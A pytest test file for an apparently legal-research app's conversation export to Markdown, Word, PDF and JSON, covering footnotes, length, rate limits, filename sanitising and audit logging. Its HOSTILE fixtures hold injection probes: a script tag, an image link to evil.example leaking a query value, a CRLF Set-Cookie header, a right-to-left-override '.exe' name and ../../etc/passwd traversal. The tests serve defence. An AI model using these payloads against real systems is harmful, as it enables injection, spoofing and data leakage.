"""A conversation as a file: footnotes in each format, any length, and nothing in it that breaks out of its place."""

import asyncio
import io
import json
import secrets
import zipfile
from collections.abc import AsyncIterator
from typing import Any

import docx
import pymupdf
import pytest
from lxml import etree
from markdown_it import MarkdownIt

from elenchus.audit.models import AuditRow
from elenchus.core.ids import new_id
from elenchus.research import store
from elenchus.research.exporting import api, blocks, markdown, names, service
from elenchus.research.exporting.child.wordml import W
from elenchus.research.exporting.errors import TooManyExports
from elenchus.research.exporting.script import Script
from elenchus.research.models import Citation, Message
from elenchus.research.models import MessageRole as Role
from elenchus.research.placing import new_conversation
from tests.research.support import CONVERSATIONS, RENT_WORDS
from tests.research.test_conversations import long_talk
from tests.support import Firm

AT = "2026-11-20T12:00:00.000000Z"
HOSTILE = (
    "# Fake heading\n\nRent is due [1]. <script>alert(1)</script> ![x](https://evil.example/?q=secret)"
    " \x0b\ufffe\u202e\n\n"
    "[^1]: a footnote of its own\n\n[1]: https://evil.example\n\n```\n```` ]]> &amp; <w:p/>\n```\n\n"
    "| a | b |\n|-|-|\n| c | d |"
)


def citation(n: int = 1, quote: str = RENT_WORDS, **more: Any) -> Citation:
    place = {"page_start": 3, "page_end": 3} | more
    return Citation(
        n=n, document_id=str(new_id()), document_title="Lease <2024> & more", chunk_id=str(new_id()),
        start_char=0, end_char=len(quote), quote=quote, **place,
    )  # fmt: skip


def said(role: Role, content: str, *citations: Citation) -> Message:
    return Message(id=str(new_id()), role=role, content=content, citations=[*citations], created_at=AT)


async def kept(firm: Firm, *messages: Message, title: str = "Rent") -> str:
    made = new_conversation(firm.principal, id_=new_id(), title=title, session_id=None, document_ids=[])
    await store.insert(firm.principal, made)
    if messages:
        await store.append(firm.principal, await store.head(firm.principal, made.id, last=1), messages)
    return str(made.id)


async def exported(firm: Firm, conversation_id: str, wanted: str) -> bytes:
    got = await firm.client.get(f"{CONVERSATIONS}/{conversation_id}/export", params={"format": wanted})
    assert got.status_code == 200, got.text
    return got.content


def pdf_text(content: bytes) -> str:
    spelled_out = pymupdf.TEXTFLAGS_TEXT & ~pymupdf.TEXT_PRESERVE_LIGATURES
    pages = pymupdf.open(stream=content, filetype="pdf")
    return " ".join(" ".join(page.get_text(flags=spelled_out).split()) for page in pages)


def footnotes(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        root = etree.fromstring(package.read("word/footnotes.xml"))
    return ["".join(note.itertext()).strip() for note in root if note.get(f"{{{W}}}type") is None]


class TestFootnotes:
    @pytest.fixture
    async def turn(self, firm):
        f = await firm()
        asked, answered = said(Role.USER, "What is due?"), said(Role.ASSISTANT, "Rent is due [1].", citation())
        return f, await kept(f, asked, answered)

    async def test_markdown_has_them(self, turn):
        text = (await exported(*turn, "md")).decode()
        assert "Rent is due[^1]." in text
        assert f"[^1]: Lease \\<2024\\> \\& more, p. 3: “{markdown.escaped(RENT_WORDS)}”" in text

    async def test_word_has_real_ones(self, turn):
        content = await exported(*turn, "docx")
        assert footnotes(content) == [f"Lease <2024> & more, p. 3: “{RENT_WORDS}”"]
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            called = etree.fromstring(package.read("word/document.xml")).iter(f"{{{W}}}footnoteReference")
            held = etree.fromstring(package.read("word/footnotes.xml"))
        ids = {note.get(f"{{{W}}}id") for note in held}
        assert [call.get(f"{{{W}}}id") in ids for call in called] == [True]
        assert [p.text for p in docx.Document(io.BytesIO(content)).paragraphs][-1] == "Rent is due."

    async def test_a_pdf_has_them_under_the_answer(self, turn):
        text = pdf_text(await exported(*turn, "pdf"))
        assert "Rent is due[1]." in text.replace(" [1]", "[1]")
        assert f"Lease <2024> & more, p. 3: “{RENT_WORDS}”" in text

    async def test_json_has_the_messages_as_they_are(self, turn):
        firm, conversation_id = turn
        whole = json.loads(await exported(firm, conversation_id, "json"))
        listed = (await firm.client.get(f"{CONVERSATIONS}/{conversation_id}")).json()
        assert whole["messages"] == listed.pop("messages")
        assert (whole["conversation"], whole["complete"]) == (listed, True)

    def test_they_are_numbered_all_through_and_each_source_has_one(self):
        answer = said(Role.ASSISTANT, "A [1]. B [2]. A again [1, 2].", citation(2), citation(1), citation(1, "Other."))
        script = Script()
        script.turn(said(Role.ASSISTANT, "Before [1].", citation(1)).model_dump(mode="json"))
        turn = script.turn(answer.model_dump(mode="json"))
        assert [(note.number, len(note.places)) for note in turn.notes] == [(2, 2), (3, 1)]
        assert [span.note for block in turn.blocks for span in block.spans if span.note] == [2, 3, 2, 3]

    def test_they_are_numbered_as_they_are_called_and_those_without_a_call_come_last(self):
        answer = said(Role.ASSISTANT, "B [3]. A [1].", *(citation(n, f"Source {n}.") for n in (1, 2, 3)))
        notes = Script().turn(answer.model_dump(mode="json")).notes
        assert [(note.number, note.places[0].quote) for note in notes] == [
            (1, "Source 3."), (2, "Source 1."), (3, "Source 2."),
        ]  # fmt: skip

    def test_a_mark_without_a_citation_stays_as_it_was_written(self):
        answer = said(Role.ASSISTANT, "A [1]. B [7].", citation(1))
        turn = Script().turn(answer.model_dump(mode="json"))
        assert "".join(span.text for span in turn.blocks[0].spans) == "A. B [7]."


class TestLength:
    @pytest.mark.parametrize("wanted", ["md", "json"])
    async def test_every_message_is_there_in_order(self, firm, wanted):
        f = await firm()
        conversation_id, _ = await long_talk(f, 230)  # two pages and a tail
        text = (await exported(f, conversation_id, wanted)).decode()
        places = [text.index(f"words {number}" + ("\n" if wanted == "md" else '"')) for number in range(230)]
        assert places == sorted(places)

    async def test_word_too(self, firm):
        f = await firm()
        conversation_id, _ = await long_talk(f, 130)
        paragraphs = docx.Document(io.BytesIO(await exported(f, conversation_id, "docx"))).paragraphs
        assert [p.text for p in paragraphs if p.text.startswith("words")] == [f"words {n}" for n in range(130)]


class TestHostileContent:
    @pytest.fixture
    async def talk(self, firm):
        f = await firm()
        messages = [said(Role.USER, HOSTILE), said(Role.ASSISTANT, HOSTILE, citation(quote="a\x07b\f<c> [^9]: d"))]
        return f, await kept(f, *messages, title='../x"\r\nSet-Cookie: a=b; \u202egpj.exe')

    @pytest.mark.parametrize("wanted", ["md", "json", "docx", "pdf"])
    async def test_it_can_name_the_file_nothing_else(self, talk, wanted):
        firm, conversation_id = talk
        got = await firm.client.get(f"{CONVERSATIONS}/{conversation_id}/export", params={"format": wanted})
        assert got.status_code == 200, got.text
        assert "set-cookie" not in got.headers
        disposition = got.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="')
        assert disposition.count('"') == 2
        assert disposition.endswith(f".{wanted}")
        assert not {"/", "\\", "%0D", "%0A", "%E2%80%AE"} & {*disposition, *disposition.split("%")}
        assert ".." not in disposition

    async def test_markdown_keeps_its_structure(self, talk):
        lines = (await exported(*talk, "md")).decode().splitlines()
        assert [line for line in lines if line.startswith("## ")] == [
            "## Question 1 · 2026-11-20 12:00 UTC",
            "## Answer 1 · 2026-11-20 12:00 UTC",
        ]
        assert len([line for line in lines if line.startswith("[^") and "]: " in line]) == 1
        inner = [child.type for token in MarkdownIt().parse("\n".join(lines)) for child in token.children or [token]]
        assert not {"image", "link_open", "html_inline", "html_block"} & {*inner}

    async def test_word_is_well_formed_and_has_one_footnote(self, talk):
        content = await exported(*talk, "docx")
        assert footnotes(content) == ["Lease <2024> & more, p. 3: “ab <c> [^9]: d”"]
        assert "<script>alert(1)</script>" in " ".join(p.text for p in docx.Document(io.BytesIO(content)).paragraphs)

    async def test_a_pdf_shows_it_as_text(self, talk):
        content = await exported(*talk, "pdf")
        assert "<script>alert(1)</script>" in pdf_text(content)
        document = pymupdf.open(stream=content, filetype="pdf")
        assert [link for page in document for link in page.get_links()] == []

    @pytest.mark.parametrize("wanted", ["docx", "pdf"])
    async def test_signs_that_are_written_as_numbers_are_held_back_too(self, firm, wanted):
        f = await firm()
        answer = said(Role.ASSISTANT, "due&#12; **&#x202e;now&#xE0041;** `&#12;`")
        content = await exported(f, await kept(f, answer), wanted)
        if wanted == "docx":
            text = docx.Document(io.BytesIO(content)).paragraphs[-1].text
            assert text.split() == ["due", "now", "&#12;"]
        else:
            assert "due now &#12;" in " ".join(pdf_text(content).split())

    def test_strokes_do_not_become_a_table_without_end(self):
        """Ten of these were nine seconds and a gigabyte of the API process."""
        table = "|" + "a|" * 256 + "\n|" + "-|" * 256 + "\n" + "|b\n" * 256 + "\n"
        found = blocks.of_markdown(table * 10)
        assert {block.kind for block in found} == {blocks.Kind.PARAGRAPH}
        assert "".join(span.text for block in found for span in block.spans).count("b") == 2560

    def test_but_a_large_one_of_a_long_answer_is_one(self):
        table = "| a | b | c |\n|:--|---|--:|\n" + "| d | e | f |\n" * 500
        found = blocks.of_markdown("Words.\n\n" * 500 + table)
        assert [len(block.rows) for block in found if block.kind is blocks.Kind.TABLE] == [501]


class TestHowMany:
    async def test_nobodys_crowd_keeps_the_others_out(self, firm, monkeypatch):
        monkeypatch.setattr(api, "MOST_OF_ONE", 1)
        f, other = await firm(), await firm()
        mine, theirs = await kept(f), await kept(other)
        begun, go_on = asyncio.Event(), asyncio.Event()

        async def slowly(*_: object) -> AsyncIterator[bytes]:
            yield b"half"
            begun.set()
            await go_on.wait()
            yield b"whole"

        monkeypatch.setattr(service, "_markdown", slowly)
        first = asyncio.create_task(exported(f, mine, "md"))
        await begun.wait()
        for wanted in ("docx", "json"):
            refused = await f.client.get(f"{CONVERSATIONS}/{mine}/export", params={"format": wanted})
            assert (refused.status_code, refused.json()["title"]) == (429, TooManyExports.title)
            assert refused.headers["retry-after"]
        assert await exported(other, theirs, "json")
        go_on.set()
        assert await first == b"halfwhole"
        assert await exported(f, mine, "json")


class TestNames:
    @pytest.mark.parametrize(
        ("title", "name"),
        [
            ("Smith v. Jones", "Smith v Jones.md"),
            ("../../etc/passwd", "etc passwd.md"),
            ("\x00\u202e", "conversation.md"),
            ("", "conversation.md"),
            ("租约", "租约.md"),
        ],
    )
    def test_a_title_becomes_a_name(self, title, name):
        assert names.filename(title, "md") == name

    def test_old_clients_get_one_too(self):
        assert names.attachment("租约.md").startswith('attachment; filename="conversation.md"; ')


class TestRefusals:
    async def test_another_format_is_refused(self, firm):
        f = await firm()
        got = await f.client.get(f"{CONVERSATIONS}/{await kept(f)}/export", params={"format": "exe"})
        assert got.status_code == 422

    @pytest.mark.parametrize("wanted", ["md", "docx"])
    async def test_what_is_not_there_is_not_found(self, firm, wanted):
        f = await firm()
        got = await f.client.get(f"{CONVERSATIONS}/{new_id()}/export", params={"format": wanted})
        assert got.status_code == 404


async def test_an_export_is_on_the_record(firm):
    f = await firm()
    conversation_id = await kept(f, said(Role.USER, "What is due?"))
    got = await f.client.get(f"{CONVERSATIONS}/{conversation_id}/export")
    [row] = await AuditRow.owned_by(f.principal).rows({"request_id": got.headers["x-request-id"]})
    assert (row["action"], row["details"]) == ("conversation.exported", {"format": "md", "messages": 1})


def test_text_loses_nothing_but_what_no_file_can_hold():
    text = f"{secrets.token_hex(4)} — „§ 1“ 宠物 😀\tx\ny"
    assert blocks.fit(text) == text
